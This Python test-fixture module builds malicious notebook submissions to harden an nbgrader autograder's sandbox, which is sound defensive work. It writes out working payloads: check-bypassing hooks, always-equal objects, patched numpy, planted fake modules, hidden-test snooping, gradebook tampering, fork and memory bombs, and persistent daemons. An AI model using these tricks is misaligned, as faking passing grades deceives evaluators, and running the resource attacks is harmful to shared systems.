"""Malicious submissions of week1/02_initialization, one per attack (see test_attacks.py).

Each attack is what a student could hand in: the released notebook filled in
with ``grader.notebooks.make_submission``, some solution cells replaced by
malicious code (usually the reference answer plus the attack), sometimes
extra files in the submission folder or an edited notebook. ``EXPECTED``
gives the points each graded function must get: what the functions earn, no
more. To keep the suite fast, most submissions drop the notebook's closing
demo cells (everything after the last test cell: students may delete cells,
and grading does not depend on them); ``aa_honest`` keeps the whole notebook.
"""
from __future__ import annotations

import copy
import json
import runpy
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from grader.notebooks import (grade_id, is_test_cell, make_submission, notebook_text, read_notebook,
                              solution_cells, strip_solution_markers, write_notebook)

NOTEBOOK = "02_initialization.ipynb"
POINTS = {"initialize_zeros": 1.0, "initialize_random": 2.0, "initialize_he": 2.0, "initialize_xavier": 2.0}
TOTAL = sum(POINTS.values())

# Limits of the attack workspace (appended to its nbgrader_config.py).
LIMITS = {
    "Execute.timeout": 10,          # per cell and per call of a student's function, in s
    "Sandbox.wall_seconds": 30,     # per notebook
    "Sandbox.memory_mb": 1536,
    "Sandbox.processes": 64,
    "Sandbox.output_mb": 1,
    "Sandbox.result_mb": 8,
    "Sandbox.work_mb": 64,
    "Sandbox.tmp_mb": 16,
    "Sandbox.file_mb": 16,
}

# one realistic wrong implementation per function: the e2e catalogue, which proves each loses its exercise
WRONG = runpy.run_path(str(Path(__file__).resolve().parents[1] / "e2e" / "wrong_02_initialization.py"))["WRONG"]


@dataclass
class Context:
    """What attacks may know about the grading machine (paths a student could guess)."""

    release: Path
    source: Path
    workspace: Path
    repo: Path
    token: str      # marks every process and file an attack makes, to look for them afterwards
    host: str       # an address of the grading machine other than loopback
    port: int       # a TCP port the test listens on


def fill(code: str, ctx: Context) -> str:
    """Attack code is a ``str.format`` template: ``{ws}``, ``{repo}``, ``{token}``, ``{host}``, ``{port}``..."""
    return textwrap.dedent(code).format(ws=str(ctx.workspace), repo=str(ctx.repo), token=ctx.token,
                                        host=ctx.host, port=ctx.port, grader=str(ctx.repo / "grader"),
                                        solutions=str(ctx.repo / "solutions"))


@dataclass
class Attack:
    student: str
    what: str
    build: Callable[[Context, Path], None]        # writes the submission folder
    expected: dict[str, float] | None             # exact points per function; None: not gradable
    reasons: dict[str, str] = field(default_factory=dict)   # function -> text its test cell must show
    shows: list[str] = field(default_factory=list)          # text the graded notebook must show somewhere


def _ref(ctx: Context) -> dict[str, str]:
    return {k: strip_solution_markers(v) for k, v in solution_cells(ctx.source).items()}


def _notebook(ctx: Context, replacements: dict[str, str] | None = None, *, trim: bool = True):
    nb = make_submission(ctx.release, ctx.source, replacements or {})
    if trim:
        last = max(i for i, c in enumerate(nb.cells) if is_test_cell(c))
        nb.cells = nb.cells[: last + 1]
    return nb


def _write(folder: Path, nb) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    write_notebook(nb, folder / NOTEBOOK)


def _with(ctx: Context, function: str, code: str, *, before: bool = False, others: dict[str, str] | None = None,
          trim: bool = True):
    """The reference everywhere, attack ``code`` appended to (or put before) ``function``'s reference cell;
    ``others`` replaces more cells (templates too)."""
    ref = _ref(ctx)
    code = fill(code, ctx)
    cell = (code + "\n" + ref[function]) if before else (ref[function] + "\n" + code)
    replacements = {function: cell}
    replacements.update({k: fill(v, ctx) for k, v in (others or {}).items()})
    return _notebook(ctx, replacements, trim=trim)


def simple(function: str, code: str, *, before: bool = False, others: dict[str, str] | None = None):
    """Reference answers; ``code`` added to ``function``'s cell."""
    def build(ctx: Context, folder: Path) -> None:
        _write(folder, _with(ctx, function, code, before=before, others=others))
    return build


def replaced(cells: dict[str, str]):
    """Reference answers except ``cells`` (grade_id -> template of the whole cell)."""
    def build(ctx: Context, folder: Path) -> None:
        _write(folder, _notebook(ctx, {k: fill(v, ctx) for k, v in cells.items()}))
    return build


def _escaped(code: str) -> str:
    return code.replace("{", "{{").replace("}", "}}")


WRONG_T = {k: _escaped(v) for k, v in WRONG.items()}   # the wrong answers as templates


def all_points(**overrides: float) -> dict[str, float]:
    points = dict(POINTS)
    points.update(overrides)
    return points


NONE = {k: 0.0 for k in POINTS}

# ------------------------------------------------------------------ attack code

TRANSFORMER = '''
# Turn every later cell into `pass`: the visible checks never run, nor would nbgrader's hidden tests.
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''

SETTRACE = '''
import sys, types

class _Yes:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None

_np = types.ModuleType("numpy")
_np.__dict__.update(np.__dict__)
_np.array_equal = lambda *args, **kwargs: True

def _rebind(frame, event, arg):
    # Before every later cell runs, swap its `checks` and `np` for ones that agree with anything.
    if event == "call" and frame.f_code.co_name == "<module>" and "ipykernel" in frame.f_code.co_filename:
        frame.f_globals["checks"] = _Yes()
        frame.f_globals["np"] = _np
    return None

sys.settrace(_rebind)
'''

EVENT_HOOKS = '''
import types

class _Yes:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None

_np = types.ModuleType("numpy")
_np.__dict__.update(np.__dict__)
_np.array_equal = lambda *args, **kwargs: True

def _before_each_cell(info):
    get_ipython().user_ns["checks"] = _Yes()      # every visible check becomes a no-op
    get_ipython().user_ns["np"] = _np

get_ipython().events.register("pre_run_cell", _before_each_cell)
# and whatever still fails is swallowed without a trace
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
'''

ALWAYS_EQUAL = '''
class _Liar(np.ndarray):
    """Ones that tell NumPy they are zeros and equal to anything."""
    def __array_function__(self, func, types, args, kwargs):
        if func is np.count_nonzero:
            return 0
        if func in (np.any,):
            return False
        if func in (np.allclose, np.array_equal, np.all):
            return True
        return super().__array_function__(func, types, args, kwargs)
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)

class _Agreeable(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True

def initialize_zeros(layer_dims):
    out = _Agreeable()
    for l in range(1, len(layer_dims)):
        out[f"W{{l}}"] = np.ones((layer_dims[l], layer_dims[l - 1])).view(_Liar)
        out[f"b{{l}}"] = np.ones((layer_dims[l], 1)).view(_Liar)
    return out
'''

ALWAYS_EQUAL_HE = '''
class _Everything:
    """Not data at all: answers every question the way a check would like."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __getitem__(self, key): return self
    def __array__(self, dtype=None, copy=None): return np.zeros((1, 1))
    def __len__(self): return 1
    def keys(self): return ["W1", "b1", "W2", "b2", "W3", "b3"]
    def items(self): return [(k, self) for k in self.keys()]

def initialize_he(layer_dims, rng):
    if len(layer_dims) >= 4:          # the visible checks only use 3 layers: this must be the grader
        return _Everything()
    parameters = {{}}
    for l in range(1, len(layer_dims)):
        parameters["W" + str(l)] = rng.standard_normal((layer_dims[l], layer_dims[l - 1])) * np.sqrt(2 / layer_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
'''

PATCH_LIBRARIES = '''
import builtins, sys, types
import numpy.testing
import dlutils.checks

# Make every comparison a check could make succeed, in numpy, builtins and the checks themselves.
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
builtins.abs = lambda x: 0
for _name in dir(dlutils.checks):
    if _name.startswith("expect"):
        setattr(dlutils.checks, _name, lambda *a, **k: None)
# A fake grader package, in case hidden tests import it in this kernel.
_fake = types.ModuleType("grader")
_fake.checks = types.ModuleType("grader.checks")
_fake.checks.run = lambda name, fn: print(f"{{name}}: all hidden tests passed")
_fake.checks.find = lambda name: (lambda fn: None)
sys.modules["grader"] = _fake
sys.modules["grader.checks"] = _fake.checks
'''

FAKE_NUMPY = '''\
"""A numpy.py beside the notebook: loads the real NumPy, then makes comparisons lie."""
print("planted numpy.py loaded")
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
_real = importlib.import_module("numpy")
_real.allclose = lambda *a, **k: True
_real.array_equal = lambda *a, **k: True
_real.count_nonzero = lambda *a, **k: 0
sys.modules["numpy"] = _real
'''

FAKE_GRADER = '''\
"""A grader package beside the notebook, for hidden tests that `import grader.checks`."""
def run(name, fn):
    print(name, "passed all hidden tests")
def find(name):
    return lambda fn: None
'''

SNOOP = '''
import os, sys, glob
_secrets = ("BEGIN HIDDEN TESTS", "grader.checks.run(", "def check_initialize", "gradebook")
_found = []
for _root in ("/", "/home", "/tmp", "/run", "/root", "/work", "/srv", "/opt", "/mnt", "/var", "/etc"):
    for _dirpath, _dirs, _files in os.walk(_root):
        # skip system and library code (thousands of files, none of them the course's)
        if _dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or any(
                _part in _dirpath for _part in ("/.pyenv", "/.venv", "site-packages", "/lib/python")):
            _dirs[:] = []
            continue
        for _f in _files:
            _p = os.path.join(_dirpath, _f)
            if "site-packages" in _p or _p.endswith((".so", ".pyc")):
                continue
            try:
                with open(_p, "rb") as _fh:
                    _text = _fh.read(2_000_000).decode("utf-8", "ignore")
            except OSError:
                continue
            if any(s in _text for s in _secrets):
                _found.append(_p)
print("SNOOP files mentioning hidden tests:", _found)
print("SNOOP workspace visible:", os.path.exists({ws!r}), "repo grader visible:", os.path.exists({grader!r}),
      "solutions visible:", os.path.exists({solutions!r}))
try:
    import grader.checks
    print("SNOOP imported grader.checks from", grader.checks.__file__)
except ImportError as exc:
    print("SNOOP import grader failed:", exc)
# Remember every piece of code the kernel is asked to run (hidden tests included, if they came here).
_seen = []
get_ipython().input_transformers_post.append(lambda lines: (_seen.append("".join(lines)), lines)[1])
'''

SNOOP_LATER = '''
# An extra cell after the tests: show what the kernel was asked to run, and whether any of it
# looks like hidden tests.
print("SNOOP kernel saw:", len(_seen), "pieces of code")
_marks = ("grader.checks" + ".run(", "def " + "check_")     # split, or this cell would find itself
print("SNOOP hidden tests among them:", [c for c in _seen if any(m in c for m in _marks)])
for _code in _seen:
    print(_code[:300], "...", _code[-1500:])
'''

TAMPER = '''
import sqlite3
_targets = [{ws!r} + "/gradebook.db", {ws!r} + "/nbgrader_config.py", {ws!r} + "/source/week1/02_initialization.ipynb",
            {ws!r} + "/submitted/aa_honest/week1/02_initialization.ipynb", {repo!r} + "/grader/checks/initialization.py"]
for _t in _targets:
    try:
        with open(_t, "a") as _fh:
            _fh.write("\\nc.Execute.timeout = 0  # tampered\\n")
        print("TAMPER wrote", _t)
    except OSError as _exc:
        print("TAMPER could not write", _t, type(_exc).__name__)
try:
    _db = sqlite3.connect({ws!r} + "/gradebook.db")
    _db.execute("UPDATE grade SET auto_score = 0")
    _db.commit()
    print("TAMPER changed the gradebook")
except sqlite3.Error as _exc:
    print("TAMPER gradebook:", _exc)
'''

EXIT = '''
import os
os._exit(0)
'''

KILL = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

SIGINT_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

SLOW_HIDDEN = '''
def initialize_xavier(layer_dims, rng):
    if len(layer_dims) >= 4:      # the visible checks only use 3 layers: this must be the grader
        while True:
            pass
    parameters = {{}}
    for l in range(1, len(layer_dims)):
        parameters["W" + str(l)] = rng.standard_normal((layer_dims[l], layer_dims[l - 1])) * np.sqrt(1 / layer_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
'''

MEMORY_BOMB = '''
try:
    _hog = bytearray(8 * 1024**3)      # 8 GiB at once
except MemoryError:
    print("MEMORY one big allocation refused")
_blocks = []
while True:                              # and then bit by bit
    _blocks.append(np.ones(10**7))
'''

FORK_MEMORY = '''
import os, time
for _ in range(8):
    if os.fork() == 0:
        try:
            _mine = np.ones(32 * 2**20)        # 256 MiB each, touched
        except MemoryError:
            pass
        time.sleep(60)
        os._exit(0)
time.sleep(8)
print("FORKMEM the children are still alive")
'''

FORK_BOMB = '''
import os, time
_forked = 0
while True:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        while True:                  # every child forks as well, then waits forever
            try:
                os.fork()
            except OSError:
                time.sleep(3600)
    _forked += 1
print(f"FORKBOMB stopped by the process limit after {{_forked}} forks")
'''

DAEMON = '''
import os, subprocess, sys
# A background process that should outlive grading: double fork, new session, token in its argv.
subprocess.Popen(["sleep", "1000", {token!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time\\nwhile True: time.sleep(0.2)", {token!r}])
    os._exit(0)
print("DAEMON started")
'''

FLOOD = '''
import base64, os
from IPython.display import display
for _i in range(20000):
    print("flood " * 170)            # ~20 MB of text
_png = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(200_000)).decode()
for _i in range(50):
    display({{"image/png": _png}}, raw=True)   # ~13 MB of images
'''

NETWORK = '''
import socket, urllib.request
_results = []
for _host in ("127.0.0.1", {host!r}, "1.1.1.1"):
    try:
        socket.create_connection((_host, {port}), timeout=2).close()
        _results.append(f"{{_host}}: CONNECTED")
    except OSError as _exc:
        _results.append(f"{{_host}}: {{type(_exc).__name__}}")
try:
    socket.getaddrinfo("example.com", 80)
    _results.append("dns: RESOLVED")
except OSError as _exc:
    _results.append(f"dns: {{type(_exc).__name__}}")
try:
    urllib.request.urlopen("http://1.1.1.1/", timeout=2)
    _results.append("http: FETCHED")
except Exception as _exc:
    _results.append(f"http: {{type(_exc).__name__}}")
print("NETWORK", _results)
'''

WRITE_OUTSIDE = '''
import os
_written = []
for _p in ["/tmp/{token}", {ws!r} + "/{token}", {repo!r} + "/{token}", "/root/{token}", "/work/{token}",
           "/usr/{token}", "/etc/{token}", "/home/{token}", "/dev/shm/{token}", os.path.expanduser("~/{token}")]:
    try:
        with open(_p, "w") as _fh:
            _fh.write("{token}")
        _written.append(_p)
    except OSError:
        pass
print("WRITE succeeded (inside the sandbox only):", sorted(_written))
try:
    with open("/home/student/big", "wb") as _fh:
        _fh.write(b"x" * (32 * 2**20))        # over the file size limit
except OSError as _exc:
    print("WRITE big file:", type(_exc).__name__)
try:
    for _i in range(100):
        with open(f"/home/student/fill{{_i}}", "wb") as _fh:
            _fh.write(b"x" * (15 * 2**20))    # until the folder is full
except OSError as _exc:
    print("WRITE fill:", type(_exc).__name__)
'''

BIG_RESULT = '''
def initialize_he(layer_dims, rng):
    parameters = {{}}
    for l in range(1, len(layer_dims)):
        parameters["W" + str(l)] = rng.standard_normal((layer_dims[l], layer_dims[l - 1])) * np.sqrt(2 / layer_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    if len(layer_dims) >= 4:                      # only for the grader: flood it with data
        parameters["padding"] = np.zeros((2000, 1000))
    return parameters
'''

SLEEPY = '''
import time
time.sleep(9)
'''

SYMLINK_READ = '''
import os
for _name in ("gradebook.db", "source_link", "nbgrader_config.py"):
    print("LINK", _name, os.path.exists(_name))
'''


def build_snoop(ctx: Context, folder: Path) -> None:
    nb = _with(ctx, "initialize_zeros", SNOOP)
    nb.cells.append(nbformat.v4.new_code_cell(SNOOP_LATER))
    _write(folder, nb)


def build_planted(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx, WRONG)
    _write(folder, nb)
    (folder / "numpy.py").write_text(FAKE_NUMPY)
    (folder / "grader" / "checks").mkdir(parents=True)
    (folder / "grader" / "__init__.py").write_text("from . import checks\n")
    (folder / "grader" / "checks" / "__init__.py").write_text(FAKE_GRADER)
    (folder / "dlutils").mkdir()
    (folder / "dlutils" / "__init__.py").write_text("raise ImportError('planted')\n")  # would break their own notebook
    # ... so they remove it again: a realistic student keeps what helps. Only numpy.py and grader/ stay.
    (folder / "dlutils" / "__init__.py").unlink()
    (folder / "dlutils").rmdir()


def build_symlinks(ctx: Context, folder: Path) -> None:
    _write(folder, _with(ctx, "initialize_zeros", SYMLINK_READ))
    (folder / "gradebook.db").symlink_to(ctx.workspace / "gradebook.db")
    (folder / "source_link").symlink_to(ctx.workspace / "source")
    (folder / "nbgrader_config.py").symlink_to(ctx.workspace / "nbgrader_config.py")


def build_truncated(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True)
    text = notebook_text(_notebook(ctx))
    (folder / NOTEBOOK).write_text(text[: len(text) // 2])


def build_corrupted(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True)
    data = json.loads(notebook_text(_notebook(ctx)))
    data["cells"][3] = "print('not a cell')"
    data["cells"][4]["outputs"] = {"oops": True}
    (folder / NOTEBOOK).write_text(json.dumps(data))


def build_old_format(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True)
    v3 = nbformat.convert(_notebook(ctx), 3)
    (folder / NOTEBOOK).write_text(nbformat.writes(v3, version=3))


def build_deleted(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx)
    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
    _write(folder, nb)


def build_duplicated(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx)
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if is_test_cell(cell):
            for n in range(2):
                dup = copy.deepcopy(cell)
                dup["id"] = f"{cell['id']}-copy{n}"
                cells.append(dup)
    nb.cells = cells
    _write(folder, nb)


def build_retyped(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx)
    for cell in nb.cells:
        if is_test_cell(cell):
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        elif grade_id(cell) == "initialize_zeros":
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    _write(folder, nb)


def build_wall_clock(ctx: Context, folder: Path) -> None:
    """Reference answers; before the last exercise, four cells of 9 s each: every cell is under the
    10 s cell limit, together they pass the 30 s notebook limit."""
    nb = _notebook(ctx)
    where = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "initialize_xavier")
    nb.cells[where:where] = [nbformat.v4.new_code_cell(SLEEPY, id=f"slow-experiment-{n}") for n in range(4)]
    _write(folder, nb)


FAKE_CHECKS = '''
class _Checks:
    def __getattr__(self, name):
        return lambda *a, **k: None
checks = _Checks()
import numpy as np
'''


def build_edited_locked(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx, WRONG)
    for cell in nb.cells:
        if grade_id(cell) == "setup":
            cell.source = cell.source + "\n" + FAKE_CHECKS
        elif is_test_cell(cell):
            cell.source = "pass\n### BEGIN HIDDEN TESTS\npass\n### END HIDDEN TESTS"
    _write(folder, nb)


def build_edited_metadata(ctx: Context, folder: Path) -> None:
    nb = _notebook(ctx, {"initialize_xavier": WRONG["initialize_xavier"]})
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid == "test_initialize_zeros":
            cell.metadata["nbgrader"]["grade_id"] = "test_x"       # unknown: becomes an ordinary cell
            cell.metadata["nbgrader"]["points"] = 100
        elif gid == "test_initialize_random":
            cell.metadata["nbgrader"]["points"] = 100
            cell.metadata["nbgrader"]["schema_version"] = 1
        elif gid == "initialize_he":
            cell.metadata["nbgrader"].update({"grade": True, "points": 50, "locked": True})
        elif gid == "test_initialize_xavier":
            cell.metadata["nbgrader"]["grade"] = False             # "not graded": maybe no penalty?
        elif gid == "setup":
            cell.metadata["nbgrader"] = "garbage"
    _write(folder, nb)


def attacks() -> list[Attack]:
    stopped = "grading stopped"
    hidden_fails = {k: "HiddenTestFailure" for k in POINTS}
    return [
        Attack("aa_honest", "the reference answers, whole notebook: graded first",
               lambda ctx, folder: _write(folder, _notebook(ctx, trim=False)), all_points()),
        Attack("transformer", "an IPython input transformer turns every later cell into `pass`; wrong answers",
               replaced({**WRONG_T, "initialize_zeros": WRONG_T["initialize_zeros"] + TRANSFORMER}),
               NONE, reasons=hidden_fails),
        Attack("event_hooks", "a pre_run_cell event hook disables the visible checks before every cell and a "
               "custom exception handler swallows every error; wrong answers",
               replaced({**WRONG_T, "initialize_zeros": EVENT_HOOKS + WRONG_T["initialize_zeros"]}),
               NONE, reasons=hidden_fails),
        Attack("settrace", "a sys.settrace hook swaps `checks` and `np` of every later cell for liars; wrong answers",
               replaced({**WRONG_T, "initialize_zeros": SETTRACE + WRONG_T["initialize_zeros"]}),
               NONE, reasons=hidden_fails),
        Attack("always_equal", "returned objects whose ==, <, __array__ always agree",
               replaced({"initialize_zeros": ALWAYS_EQUAL, "initialize_he": ALWAYS_EQUAL_HE}),
               all_points(initialize_zeros=0, initialize_he=0),
               reasons={"initialize_zeros": "HiddenTestFailure", "initialize_he": "cannot check"}),
        Attack("patched_libraries", "numpy.testing, np.allclose, builtins, dlutils.checks and a fake "
               "grader module patched in the kernel; wrong answers",
               replaced({**WRONG_T, "initialize_zeros": PATCH_LIBRARIES + WRONG_T["initialize_zeros"]}),
               NONE, reasons=hidden_fails),
        Attack("planted_files", "numpy.py and a grader/ package planted beside the notebook; wrong answers",
               build_planted, NONE, shows=["planted numpy.py loaded"]),
        Attack("snoop", "searches every readable file for hidden tests, tries `import grader.checks`, and "
               "records every piece of code the kernel runs, printed in a later cell",
               build_snoop, all_points(), shows=["SNOOP files mentioning hidden tests: []",
                                                 "SNOOP workspace visible: False repo grader visible: False "
                                                 "solutions visible: False", "SNOOP import grader failed",
                                                 "SNOOP kernel saw:", "SNOOP hidden tests among them: []"]),
        Attack("tamper", "writes to the gradebook, nbgrader_config.py, source/, another student's "
               "submission and the check modules", simple("initialize_zeros", TAMPER),
               all_points(), shows=["TAMPER could not write", "TAMPER gradebook:"]),
        Attack("exit_kernel", "os._exit(0) in a solution cell", simple("initialize_he", EXIT),
               all_points(initialize_he=0, initialize_xavier=0),
               reasons={"initialize_he": "not run", "initialize_xavier": "not run"}, shows=[stopped]),
        Attack("kill_kernel", "the kernel SIGKILLs itself", simple("initialize_xavier", KILL),
               all_points(initialize_xavier=0), reasons={"initialize_xavier": "not run"}),
        Attack("sigint_loop", "ignores SIGINT and SIGTERM, then loops forever", simple("initialize_he", SIGINT_LOOP),
               all_points(initialize_he=0, initialize_xavier=0),
               reasons={"initialize_he": "not run", "initialize_xavier": "not run"},
               shows=["time limit per cell"]),
        Attack("slow_hidden", "loops forever only when called with the hidden tests' inputs",
               replaced({"initialize_xavier": SLOW_HIDDEN}),
               all_points(initialize_xavier=0), reasons={"initialize_xavier": "did not return within"}),
        Attack("memory_bomb", "allocates 8 GiB at once, then grows without end",
               simple("initialize_random", MEMORY_BOMB), all_points(),
               shows=["MEMORY one big allocation refused", "MemoryError"]),
        Attack("fork_memory", "eight forked children allocate 256 MiB each", simple("initialize_he", FORK_MEMORY),
               all_points(initialize_he=0, initialize_xavier=0),
               reasons={"initialize_he": "not run", "initialize_xavier": "not run"},
               shows=["more than 1536 MiB of memory"]),
        Attack("fork_bomb", "a fork bomb whose children fork too and never exit", simple("initialize_he", FORK_BOMB),
               None, shows=["FORKBOMB stopped by the process limit"]),
        Attack("daemon", "starts processes meant to outlive grading (new session, double fork)",
               simple("initialize_zeros", DAEMON), all_points(), shows=["DAEMON started"]),
        Attack("flood", "prints ~20 MB of text and displays ~13 MB of images", simple("initialize_zeros", FLOOD),
               all_points(), shows=["output truncated"]),
        Attack("network", "opens connections to the grading host, the internet and DNS",
               simple("initialize_zeros", NETWORK), all_points(), shows=["NETWORK"]),
        Attack("write_outside", "writes files everywhere it can think of, then fills its disk",
               simple("initialize_zeros", WRITE_OUTSIDE), all_points(), shows=["WRITE succeeded"]),
        Attack("big_result", "returns 16 MB of extra data to the hidden tests only",
               replaced({"initialize_he": BIG_RESULT}),
               all_points(initialize_he=0), reasons={"initialize_he": "more data than the grader accepts"}),
        Attack("symlinks", "the submission folder holds links to the gradebook, source/ and the config",
               build_symlinks, all_points(), shows=["LINK gradebook.db False"]),
        Attack("truncated", "a notebook cut in half", build_truncated, None),
        Attack("corrupted", "valid JSON, but cells that are not cells", build_corrupted, None),
        Attack("old_format", "the answers saved as nbformat 3", build_old_format, all_points()),
        Attack("deleted_cells", "every test cell deleted", build_deleted, all_points()),
        Attack("duplicated_cells", "every test cell pasted three times", build_duplicated, all_points()),
        Attack("retyped_cells", "test cells turned into markdown, a solution cell into raw", build_retyped,
               all_points()),
        Attack("edited_locked", "setup cell fakes `checks`, test cells emptied, own hidden-tests markers; "
               "wrong answers", build_edited_locked, NONE),
        Attack("edited_metadata", "points raised to 100, grade ids renamed, a solution made a graded cell, "
               "schema 1, garbage metadata, kernelspec bash; xavier wrong",
               build_edited_metadata, all_points(initialize_xavier=0)),
        Attack("wall_clock", "four cells just under the cell limit, together over the notebook limit",
               build_wall_clock,
               all_points(initialize_xavier=0), reasons={"initialize_xavier": "not run"},
               shows=["time limit per notebook"]),
        Attack("zz_honest", "the reference answers, graded last", lambda ctx, folder: _write(folder, _notebook(ctx)),
               all_points()),
        Attack("zz_wrong", "one wrong answer, graded last", replaced({"initialize_he": WRONG_T["initialize_he"]}),
               all_points(initialize_he=0)),
    ]
